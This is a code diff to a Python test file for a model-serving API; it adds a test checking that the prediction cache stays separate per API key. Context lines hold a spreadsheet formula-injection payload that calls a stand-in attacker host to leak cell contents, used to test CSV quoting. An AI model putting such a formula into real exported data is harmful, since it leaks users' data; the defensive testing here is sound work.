@@ -12,6 +12,8 @@ import pytest
 from onnx import TensorProto, helper
 
 from tests.jobs.api import create_file, created, result_url, wait_finished
+from tests.registry.onnx_factories import make_iris_model
+from tests.security.battery import IRIS_ROW, SENDERS
 
 # Names and values a spreadsheet would run as formulas if written as they are.
 HOSTILE_OUTPUT = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
@@ -72,3 +74,29 @@ def test_job_result_csv_quotes_formula_cells_and_keeps_numbers(jobs_client, make
     ]
     # Numbers stay numbers, negative ones included.
     assert [int(row[0]) for row in rows] == [-1, -1, -1, -1, -1, -1, -1, 7, -1]
+
+
+# --- 2. the prediction cache is per key --------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("sender", sorted(SENDERS))
+def test_cache_never_tells_one_key_what_another_sent(sender, ready_model, make_key):
+    send = SENDERS[sender]
+    iris = ready_model(make_iris_model(zipmap=False), name="iris")
+    path = f"/api/v1/models/{iris['id']}/predict"
+    body = orjson.dumps({"input_data": IRIS_ROW})
+    _, key_a = make_key("predict", name="tenant-a")
+    _, key_b = make_key("predict", name="tenant-b")
+
+    def cache_state(key: str) -> tuple[str, bool]:
+        reply = send(path, body, key=key)
+        assert reply.status == 200, reply.content[:500]
+        return reply.headers["X-Cache"], reply.json()["cached"]
+
+    assert cache_state(key_a) == ("MISS", False)
+    assert cache_state(key_a) == ("HIT", True)
+    # B's first request for the very input A sent: nothing tells B that A sent it.
+    assert cache_state(key_b) == ("MISS", False)
+    assert cache_state(key_b) == ("HIT", True)
+    assert cache_state(key_a) == ("HIT", True)
